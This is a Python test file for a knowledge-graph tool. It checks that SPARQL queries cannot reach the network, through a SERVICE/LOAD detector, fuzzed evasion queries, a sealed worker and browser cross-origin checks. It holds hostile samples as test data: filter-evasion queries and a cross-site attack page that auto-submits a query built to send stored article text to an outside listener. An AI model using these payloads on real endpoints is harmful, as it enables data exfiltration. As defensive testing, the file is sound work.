"""Nothing leaves the machine: no query reaches a listening socket, by the check, by the sealed process, in a browser."""

from __future__ import annotations

import json
import multiprocessing
import platform
import random
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from pyoxigraph import QueryBoolean, Store
from rdflib.plugins.sparql import prepareQuery
from test_serve import QUERY, ask, running

import kg
from kg.builds import home
from kg.cli import main
from kg.errors import FederationError, QueryError
from kg.query import run_query
from kg.query.workers import BadQueryError, Limits, Request, Worker, _serve
from kg.store.walls import asks_others

if TYPE_CHECKING:
    from selenium.webdriver.chrome.webdriver import WebDriver


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as one:
        yield one


class Listener:
    """A socket of this machine that counts who connects."""

    def __init__(self) -> None:
        self._socket = socket.socket()
        self._socket.bind(("127.0.0.1", 0))
        self._socket.listen(64)
        self.connections = 0
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}/"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                self.connections += 1
                connection.close()

    def close(self) -> None:
        self._socket.close()


@contextmanager
def listening() -> Iterator[Listener]:
    one = Listener()
    try:
        yield one
    finally:
        one.close()


PASS = [
    "SELECT ?service ?load ?myService { ?s ?p ?o }",
    "ASK { ?s ?p 'SERVICE <x>' } # SERVICE <x> {}",
    'ASK { ?s ?p """a SERVICE" b""" , "it\'s a SERVICE", \'a \\\'SERVICE\' }',
    "ASK { <http://example.org/service/load#SERVICE> ?p ?o }",
    "ASK { ?s ?p 'Stra\\u00dfe SERVICE' }",
    "PREFIX ex: <http://example.org/> ASK { ex:download ?p ex:upload }",
    "ASK { ?s ?p ?o FILTER (?o < 3 || ?o > 5 || ?o = 'LOAD SERVICE') }",
]
REFUSED = [
    "ASK{SERVICE<x>{}}",
    "ASK { service silent ?s {} }",
    "ASK { ?s ?p 'a' . SeRvIcE ex:a {} }",
    "ASK { ?s ?p '\\'' SERVICE <x> {} }",
    # as they were found
    "PREFIX ex:<http://a/> SELECT * { OPTIONAL {?q ex:a\\# ?r} SERVICE <http://x/> {?s ?p ?o} }",
    "PREFIX ex:<http://a/> ASK { ?s ex:it\\'s ?o SERVICE <http://x/> {?a ?b ?c} FILTER(?s = 'a') }",
    "PREFIX x:<http://x/> ASK { ?a ?p ?b FILTER(?a<?b)SERVICE x:{?s ?p ?o}FILTER(2>1) }",
    # what one tokenizer takes for an IRI or a string, and another for a comparison
    "PREFIX : <http://x/> ASK { ?a ?p ?b FILTER(?a<?b)SERVICE#>\n:{?s ?p ?o} }",
    "PREFIX : <http://x/> ASK { ?a ?p ?b FILTER(?a<?b&&?c='>')SERVICE:{?s ?p ?o} } #'",
    # escapes before the grammar, words without a boundary, letters that become others
    "ASK { \\u0053ERVICE <http://x/> {?s ?p ?o} }",
    "ASK { ?s ?p '\\u0027 SERVICE <http://x/> {?a ?b ?c} #' }",
    "PREFIX : <http://x/> ASK { ?s ?p trueSERVICE:{?a ?b ?c} }",
    "ASK { \u017fERV\u0131CE <http://x/> {?s ?p ?o} }",
    "ASK {} #\rSERVICE",
    # in doubt
    "PREFIX ex: <http://example.org/> ASK { ?s ex:service ?o }",
    "ASK { ?s ?p 'no end SERVICE",
    "LOAD <http://x/>", "CLEAR ALL;load<http://x/>", "PREFIX a:<http://x/>LOADa:b",
]  # fmt: skip


@pytest.mark.parametrize(("text", "refused"), [(t, False) for t in PASS] + [(t, True) for t in REFUSED])
def test_a_clause_is_found_in_whatever_way_the_text_is_cut(text: str, refused: bool) -> None:
    assert asks_others(text) is refused


def test_long_texts_are_looked_through_in_no_time() -> None:
    """A count of work would need the inside; so only that none of these hangs."""
    for text in (
        "'''" * 50_000,
        "<" * 100_000,
        "#" * 100_000,
        "<a" * 50_000,
        '"\\' * 50_000,
        "'a'" * 30_000,
        "\\u0" * 9_000,
    ):
        asks_others(text + " SERVICE")


SEEDS = [
    "PREFIX ex: <{x}> ASK {{ ?a ?b ?c . OPTIONAL {{ ?q ex:p ?r }} SERVICE ex:s {{ ?s ?p ?o }} FILTER(?a<?c) }}",
    "PREFIX : <{x}> SELECT * {{ {{ VALUES ?x {{ 'a' \"b\" true 1 }} }} SERVICE SILENT : {{ ?s ?p '''c''' }} }}",
    "SELECT ?s {{ BIND(IRI(CONCAT('{x}?t=', ENCODE_FOR_URI('a'))) AS ?x) SERVICE ?x {{ ?s ?p ?o }} }}",
    'BASE <{x}> ASK {{ FILTER(1<2)SERVICE <a> {{ ?s ?p ?o . ?s <b#c> """d"""@de }} FILTER(2>1) }}',
    "PREFIX : <{x}> CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {{}} UNION {{ SERVICE :a {{ ?s ?p ?o FILTER(?o = 'it\\'s') }} }} }}",
    "PREFIX : <{x}> ASK {{ FILTER NOT EXISTS {{ SERVICE <{x}> {{ SELECT * {{ ?s ?p ?o }} }} }} }}",
]
PIECES = [
    "#", "#\n", "\n", "\r", "\t", " ", "#'\n", '#"\n', "#>\n", "\\#", "\\'", ":a\\#", ":it\\'s", "'", '"', "'''", '"""', "''", "<", ">", "<>",
    "\\", "\\u0020", "\\u0027", "\\u0022", "\\u0023", "\\u003C", "\\U0000003E", "FILTER(?a<?b)", "FILTER(?a<?b&&?c='>')", "FILTER('>'>'<')",
    "OPTIONAL{}", "OPTIONAL{?q :a\\# ?r}", "{}", "{", "}", "(", ")", "true", "1", "1e1", ".", ";", ",", "?x", "$y", "@en", "^^", "_:b", "\u00a0",
    "\ufeff", "\u2028", "BIND(1 AS ?z)", "VALUES ?v {''}", "VALUES ?v {'\\\\'}", "FILTER(''='')", "<a#b>", "<a'b>", "<?b)", "SERVICE",
]  # fmt: skip


def mutated(rng: random.Random, url: str) -> str:
    """A query that would ask the address, changed in a few places; three in ten are still queries."""
    text = rng.choice(SEEDS).format(x=url)
    for _ in range(rng.choice((1, 1, 1, 2, 2, 3, 5))):
        match rng.randrange(7):
            case 0 | 1 | 2:  # something odd before the clause, or anywhere
                at = text.find("SERVICE") if rng.random() < 0.6 else rng.randrange(len(text))
                at = max(at, 0)
                text = text[:at] + "".join(rng.choices(PIECES, k=rng.randint(1, 3))) + text[at:]
            case 3:  # a letter as an escape
                at = rng.randrange(len(text))
                escape = rng.choice((r"\u{:04x}", r"\u{:04X}", r"\U{:08X}")).format(ord(text[at]))
                text = text[:at] + escape + text[at + 1 :]
            case 4:  # upper and lower case
                text = text.replace("SERVICE", "".join(rng.choice((c, c.lower())) for c in "SERVICE"))
            case 5:  # one level deeper
                begin, end = text.find("{"), text.rfind("}")
                inside = rng.choice(
                    ("{{{}}}", "OPTIONAL{{{}}}", "GRAPH ?g{{{}}}", "MINUS{{{}}}", "{{SELECT*{{{}}}}}")
                )
                text = text[: begin + 1] + inside.format(text[begin + 1 : end]) + text[end:]
            case _:  # without white space around the clause
                text = (
                    text.replace(" SERVICE", "SERVICE")
                    .replace("SERVICE :", "SERVICE:")
                    .replace("SERVICE <", "SERVICE<")
                )
    return text


def cases(url: str, number: int = 5000) -> Iterator[str]:
    rng = random.Random(20181129)
    return (mutated(rng, url) for _ in range(number))


def evaluate(result: Any) -> None:
    if isinstance(result, QueryBoolean):
        bool(result)
    else:
        list(result)


def test_the_mutated_queries_would_reach_it(listener: Listener) -> None:
    """Without a wall, one in five does."""
    store = Store()
    for text in cases(listener.url, 1500):
        with suppress(SyntaxError, ValueError, OSError, RuntimeError):
            evaluate(store.query(text))
    assert listener.connections > 200


def test_no_query_passes_the_first_wall_and_connects(listener: Listener) -> None:
    store = Store()
    passed = 0
    for text in cases(listener.url):
        try:
            run_query(store, text, "ntriples" if "CONSTRUCT" in text else "json")
            passed += 1
        except (QueryError, RuntimeError):
            continue
    assert listener.connections == 0
    assert passed > 0  # where the clause has ended up in a string or a comment


def test_no_query_of_a_sealed_process_connects(listener: Listener, out: Path) -> None:
    """None of them has gone through the first wall."""
    asked = 0
    worker = Worker(home(out), Limits(), sealed=True)
    try:
        for text in cases(listener.url):
            with suppress(BadQueryError):
                asked += 1
                list(worker.ask(Request(text, "JSON", "N_TRIPLES", "http://base/"), 600, 10**9))
    finally:
        worker.end()
    assert (asked, listener.connections) == (5000, 0)


_SEALED = """
import platform, socket, sys, threading
platform.machine = lambda: sys.argv[1]
from kg.query.sealed import seal
sealed = seal()
reached = []

def reach():
    try:
        reached.append(socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=5))
    except OSError:
        pass

thread = threading.Thread(target=reach)
thread.start()
thread.join()
reach()
print(sealed, len(reached))
"""


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux has the second wall")
@pytest.mark.parametrize("machine", [platform.machine(), "s390x"])
def test_a_sealed_process_and_its_threads_connect_by_no_means(machine: str, listener: Listener) -> None:
    """On a processor that the filter is not known for, by having a network of its own."""
    port = str(urlsplit(listener.url).port)
    command = [sys.executable, "-c", _SEALED, machine, port]
    sealed, reached = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
    if machine == "s390x" and sealed == "False":
        pytest.skip("this system lets nobody have a network of his own")
    assert (sealed, reached, listener.connections) == ("True", "0", 0)


def test_a_worker_is_sealed_before_it_has_a_second_thread(monkeypatch: pytest.MonkeyPatch, out: Path) -> None:
    """The kernel gives a network of its own to nobody who has several."""
    threads: list[int] = []
    monkeypatch.setattr("kg.query.sealed.seal", lambda: threads.append(threading.active_count()))
    monkeypatch.setattr("kg.query.workers._bound_memory", lambda memory: None)
    before = threading.active_count()
    ours, theirs = multiprocessing.Pipe()
    ours.close()
    handler = signal.getsignal(signal.SIGINT)
    try:
        _serve(str(home(out)), theirs, 0, sealed=True)
    finally:
        signal.signal(signal.SIGINT, handler)
    assert threads == [before]


def test_who_allows_federation_gets_it(listener: Listener, out: Path) -> None:
    with running(out, "--federation") as address:
        ask(f"{address}/sparql", f"ASK {{ SERVICE <{listener.url}> {{ ?s ?p ?o }} }}", Content_Type=QUERY)
    assert listener.connections > 0


def test_the_same_check_at_the_terminal_and_in_python(listener: Listener, out: Path) -> None:
    text = f"ASK {{ OPTIONAL {{ ?q <http://a/a> ?r }} SERVICE <{listener.url}> {{ ?s ?p ?o }} }}"
    ran = CliRunner().invoke(main, ["query", str(out), text])
    assert (ran.exit_code, "SERVICE and LOAD are not enabled here" in ran.output) == (2, True)
    for graph in (kg.open(out), kg.open(out / "graph.trig")):
        attempts: list[Callable[[], Any]] = [
            lambda graph=graph: graph.query(text),  # type: ignore[misc]
            lambda graph=graph: graph.query(prepareQuery(text)),  # type: ignore[misc]
            lambda graph=graph: graph.query(prepareQuery(f"ASK FROM <{listener.url}> {{ ?s ?p ?o }}")),  # type: ignore[misc]
            lambda graph=graph: graph.query(text, use_store_provided=False),  # type: ignore[misc]
            lambda graph=graph: next(iter(graph.graphs())).query(text),  # type: ignore[misc]
            lambda graph=graph: graph.update(f"LOAD <{listener.url}>"),  # type: ignore[misc]
            lambda graph=graph: graph.update(
                f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{listener.url}> {{ ?s ?p ?o }} }}"
            ),  # type: ignore[misc]
        ]
        for attempt in attempts:
            with pytest.raises(FederationError):
                attempt()
    assert listener.connections == 0


SITES = [
    # path, headers, status
    ("/sparql?query=ASK%7B%7D", {"Origin": "https://evil.example"}, 403),
    ("/sparql?query=ASK%7B%7D", {"Origin": "null"}, 403),
    ("/sparql?query=ASK%7B%7D", {"Sec_Fetch_Site": "cross-site"}, 403),
    ("/sparql?query=ASK%7B%7D", {"Sec_Fetch_Site": "same-site"}, 403),
    ("/sparql?query=ASK%7B%7D", {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate", "Sec_Fetch_Dest": "document"}, 403),
    ("/queries/meetings", {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate", "Sec_Fetch_Dest": "document"}, 403),
    ("/search?q=Kim", {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "no-cors", "Sec_Fetch_Dest": "image"}, 403),
    ("/search?q=Kim", {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate", "Sec_Fetch_Dest": "document"}, 200),
    ("/sparql?query=ASK%7B%7D", {"Sec_Fetch_Site": "same-origin"}, 200),
    ("/sparql?query=ASK%7B%7D", {"Sec_Fetch_Site": "none"}, 200),
    ("/sparql?query=ASK%7B%7D", {}, 200),
    ("/sparql?query=ASK%7B%7D", {"Origin": "https://lab.example", "Sec_Fetch_Site": "cross-site"}, 200),
]  # fmt: skip


def test_pages_of_other_origins_may_not_ask(out: Path) -> None:
    with running(out, "--cors", "https://lab.example") as address:
        got = [ask(address + path, **headers)[0] for path, headers, _ in SITES]
        assert got == [status for _, _, status in SITES]
        assert ask(f"{address}/sparql?query=ASK%7B%7D", Origin=address)[0] == 200


ATTACK = """<!doctype html><meta charset="utf-8"><title>an innocent page</title>
<form id="f" method="post" action="{kg}/sparql" target="frame"><input name="query" value="{query}"></form>
<form id="g" method="get" action="{kg}/sparql"><input name="query" value="{query}"></form>
<form id="h" method="post" enctype="text/plain" action="{kg}/sparql" target="frame"><input name="query" value="{query}"></form>
<iframe name="frame"></iframe><img src="{kg}/sparql?query={quoted}"><script src="{kg}/sparql?query={quoted}"></script>
<link rel="stylesheet" href="{kg}/sparql?query={quoted}">
<script>
  f.submit(); h.submit();
  fetch("{kg}/sparql", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}}, body: f.query.value}});
  fetch("{kg}/sparql?query={quoted}", {{mode: "no-cors", credentials: "include"}}).catch(() => 0);
  navigator.sendBeacon("{kg}/sparql", new URLSearchParams({{query: f.query.value}}));
  setTimeout(() => {{ document.title = "sent"; g.submit(); }}, 1500);
</script>"""


def test_a_page_that_attacks_gets_nothing_out(out: Path, listener: Listener, browser: WebDriver) -> None:
    """A page of another origin, in a real browser, sends by itself what would send the articles' beginnings away."""
    from html import escape
    from urllib.parse import quote

    query = (
        "PREFIX ex:<http://a/> SELECT * { ?d <http://persistence.uni-leipzig.org/nlp2rdf/ontologies/nif-core#isString> ?text "
        f'BIND(IRI(CONCAT("{listener.url}?t=", ENCODE_FOR_URI(SUBSTR(?text, 1, 200)))) AS ?x) '
        "OPTIONAL {?q ex:a\\# ?r} SERVICE ?x {?s ?p ?o} }"
    )
    received: list[tuple[str, int]] = []
    with running(out) as address, page_server(
        ATTACK.format(kg=address, query=escape(query), quoted=quote(query))
    ) as evil:  # fmt: skip
        browser.get(evil)
        for _ in range(100):
            if urlsplit(browser.current_url).path == "/sparql":
                break
            threading.Event().wait(0.1)
        for entry in browser.get_log("performance"):  # type: ignore[no-untyped-call]
            message = json.loads(entry["message"])["message"]
            if (
                message["method"] == "Network.responseReceived"
                and "/sparql" in message["params"]["response"]["url"]
            ):
                received.append((message["params"]["type"], message["params"]["response"]["status"]))
    assert len(received) >= 4, received  # the attack took place
    assert {status for _, status in received} == {403}
    assert listener.connections == 0


@contextmanager
def page_server(page: str) -> Iterator[str]:
    """A web server of another origin with one page."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
